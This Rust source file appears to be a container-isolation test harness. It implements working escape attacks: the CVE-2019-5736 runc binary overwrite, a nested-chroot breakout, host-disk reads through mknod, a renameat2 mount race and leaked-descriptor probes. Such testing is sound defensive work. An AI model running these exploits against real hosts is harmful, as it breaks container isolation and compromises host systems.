//! Files of the kernel and of the host.

use crate::{Outcome, done, opened_for_writing};
use std::ffi::CString;
use std::fs;
use std::io::{Read, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::OpenOptionsExt;
use std::path::Path;
use std::time::{Duration, Instant};

const PATIENCE: Duration = Duration::from_secs(20);
const PROC_MAGIC: i64 = 0x9fa0;

pub fn attack(words: &[&str]) -> Option<Outcome> {
    Some(match words {
        ["open-for-writing", paths @ ..] => {
            let tried: Vec<Outcome> = paths.iter().map(|path| opened_for_writing(path)).collect();
            tried.iter().find(|outcome| outcome.is_ok()).or(tried.last()).cloned().unwrap_or(Err("no path".into()))
        }
        ["rewrite", path] => rewrite(path),
        ["read", path] => read(path),
        ["read-any-below", path] => any_below(Path::new(path), false),
        ["write-any-below", path] => any_below(Path::new(path), true),
        ["disk", major, minor] => disk(major, minor),
        ["is-not-proc"] => is_not_proc(),
        ["working-directory", marker] => working_directory(marker),
        ["overwrite-program", word] => overwrite_program(word),
        ["chroot-out", marker] => chroot_out(marker),
        ["swap", one, other] => swap(one, other),
        ["has-no-mount", name] => has_no_mount(name),
        ["descriptors", held @ ..] => descriptors(held),
        _ => return None,
    })
}

/// What was there is written back.
fn rewrite(path: &str) -> Outcome {
    let text = fs::read(path).map_err(|e| format!("{path}: {e}"))?;
    fs::write(path, text).map_err(|e| format!("{path}: {e}"))?;
    Ok(format!("{path} was written"))
}

fn read(path: &str) -> Outcome {
    let mut byte = [0];
    let read = fs::File::open(path).and_then(|mut file| file.read(&mut byte)).map_err(|e| format!("{path}: {e}"))?;
    if read == 0 { Err(format!("{path} is empty")) } else { Ok(format!("{path} was read")) }
}

fn any_below(directory: &Path, writing: bool) -> Outcome {
    let entries = fs::read_dir(directory).map_err(|e| format!("{}: {e}", directory.display()))?;
    let mut last = format!("{} has no file", directory.display());
    for entry in entries.flatten() {
        let Ok(kind) = entry.file_type() else { continue };
        let path = entry.path();
        let outcome = if kind.is_dir() {
            any_below(&path, writing)
        } else if !kind.is_file() {
            continue;
        } else if writing {
            opened_for_writing(&path.to_string_lossy())
        } else {
            read(&path.to_string_lossy())
        };
        match outcome {
            Ok(how) => return Ok(how),
            Err(why) => last = why,
        }
    }
    Err(last)
}

/// The host's disk, by a device node of one's own.
fn disk(major: &str, minor: &str) -> Outcome {
    let (Ok(major), Ok(minor)) = (major.parse(), minor.parse()) else { return Err("no numbers".into()) };
    let path = CString::new("/tmp/disk").unwrap_or_default();
    // SAFETY: the path outlives the call.
    let made = unsafe { libc::mknod(path.as_ptr(), libc::S_IFBLK | 0o600, libc::makedev(major, minor)) };
    done("mknod", made.into())?;
    let mut block = [0; 512];
    let mut file = fs::File::open("/tmp/disk").map_err(|e| format!("open the disk: {e}"))?;
    file.read_exact(&mut block).map_err(|e| format!("read the disk: {e}"))?;
    Ok("the first block of the host's disk was read".into())
}

/// The image has led the mounts of the runtime elsewhere.
fn is_not_proc() -> Outcome {
    // SAFETY: zero is a valid value; path and structure outlive the call.
    let kind = unsafe {
        let mut stat: libc::statfs = std::mem::zeroed();
        if libc::statfs(c"/proc/self/status".as_ptr(), &raw mut stat) < 0 { 0 } else { stat.f_type as i64 }
    };
    if kind == PROC_MAGIC { Err("/proc is the kernel's".into()) } else { Ok(format!("/proc is of kind {kind:#x}")) }
}

/// The working directory lies outside of the container, and a way leads on from there.
fn working_directory(marker: &str) -> Outcome {
    let mut path = String::new();
    for _ in 0..24 {
        for name in [marker, &marker[1..]] {
            let candidate = format!("{path}{name}", name = name.trim_start_matches('/'));
            if fs::read_to_string(&candidate).is_ok_and(|text| text == "of the host") {
                return Ok(format!("{candidate} of the host was read"));
            }
        }
        path.push_str("../");
    }
    Err(format!("no way from {:?} to the host", std::env::current_dir()))
}

/// CVE-2019-5736: holds the program of a process that the runtime brought in, and writes to it once it may.
fn overwrite_program(word: &str) -> Outcome {
    println!("waiting");
    let own = std::process::id().to_string();
    let deadline = Instant::now() + PATIENCE;
    let mut reach = String::from("nobody came");
    let (held, pid) = 'found: loop {
        if Instant::now() > deadline {
            return Err(reach);
        }
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            let told = fs::read(entry.path().join("cmdline")).unwrap_or_default();
            if name == own || !String::from_utf8_lossy(&told).contains(word) || told.starts_with(b"/bin/attack") {
                continue;
            }
            let program = entry.path().join("exe");
            match fs::OpenOptions::new().read(true).custom_flags(libc::O_PATH).open(&program) {
                Ok(held) => break 'found (held, name),
                Err(error) => reach = format!("{} is out of reach: {error}", program.display()),
            }
        }
    };
    while Path::new("/proc").join(&pid).exists() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(1));
    }
    let path = format!("/proc/self/fd/{}", held.as_raw_fd());
    let mut last = String::new();
    for _ in 0..200 {
        match fs::OpenOptions::new().append(true).open(&path).and_then(|mut file| file.write_all(b"x")) {
            Ok(()) => return Ok("the program that the runtime ran was overwritten".into()),
            Err(error) => last = error.to_string(),
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    Err(format!("{path}: {last}"))
}

/// The old way out of a chroot: keep a directory open, chroot below it, walk up.
fn chroot_out(marker: &str) -> Outcome {
    fs::create_dir_all("/tmp/cell").map_err(|e| e.to_string())?;
    // SAFETY: plain system calls with constant strings.
    unsafe {
        done("chroot", libc::chroot(c"/tmp/cell".as_ptr()).into())?;
        for _ in 0..64 {
            libc::chdir(c"..".as_ptr());
        }
        libc::chroot(c".".as_ptr());
    }
    match fs::read_to_string(marker) {
        Ok(text) if text == "of the host" => Ok(format!("{marker} of the host was read")),
        other => Err(format!("the walk up ended inside the container: {other:?}")),
    }
}

/// Exchanges two names for ever.
fn swap(one: &str, other: &str) -> Outcome {
    let names = (CString::new(one), CString::new(other));
    let (Ok(one), Ok(other)) = names else { return Err("no names".into()) };
    println!("swapping");
    loop {
        // SAFETY: the names outlive the call.
        let swapped = unsafe {
            libc::syscall(
                libc::SYS_renameat2,
                libc::AT_FDCWD,
                one.as_ptr(),
                libc::AT_FDCWD,
                other.as_ptr(),
                libc::RENAME_EXCHANGE,
            )
        };
        // A directory that is mounted on at this moment is busy.
        if swapped < 0 && std::io::Error::last_os_error().raw_os_error() != Some(libc::EBUSY) {
            return Err(format!("renameat2: {}", std::io::Error::last_os_error()));
        }
    }
}

/// A mount that the runtime was asked for is nowhere in this container: it was made somewhere else.
fn has_no_mount(name: &str) -> Outcome {
    let mounts = fs::read_to_string("/proc/self/mountinfo").map_err(|e| e.to_string())?;
    let points: Vec<&str> = mounts.lines().filter_map(|line| line.split(' ').nth(4)).collect();
    match points.iter().find(|point| point.ends_with(name)) {
        Some(point) => Err(format!("mounted at {point}")),
        None => Ok(format!("no {name} among {points:?}")),
    }
}

/// Something is open that nobody gave to this program.
fn descriptors(held: &[&str]) -> Outcome {
    let _held: Vec<fs::File> = held.iter().filter_map(|path| fs::File::open(path).ok()).collect();
    for number in 3..1024 {
        // SAFETY: asks only.
        if unsafe { libc::fcntl(number, libc::F_GETFD) } >= 0 {
            return Ok(format!("{number} is {:?}", fs::read_link(format!("/proc/self/fd/{number}"))));
        }
    }
    Err("only the three standard ones are open".into())
}
